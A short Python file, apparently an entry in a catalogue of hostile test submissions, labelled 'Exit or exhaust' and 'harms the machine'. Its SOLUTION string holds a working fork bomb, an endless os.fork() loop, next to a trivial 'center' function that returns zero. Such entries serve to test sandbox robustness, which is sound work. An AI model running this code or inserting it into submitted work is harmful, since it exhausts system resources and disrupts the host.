"""A fork bomb."""

CATEGORY = "Exit or exhaust"
POINTS = 0
STOCK = "harms the machine"
SOLUTION = """
import os
def center(X):
    return X * 0
while True:
    try:
        os.fork()
    except OSError:
        pass
"""
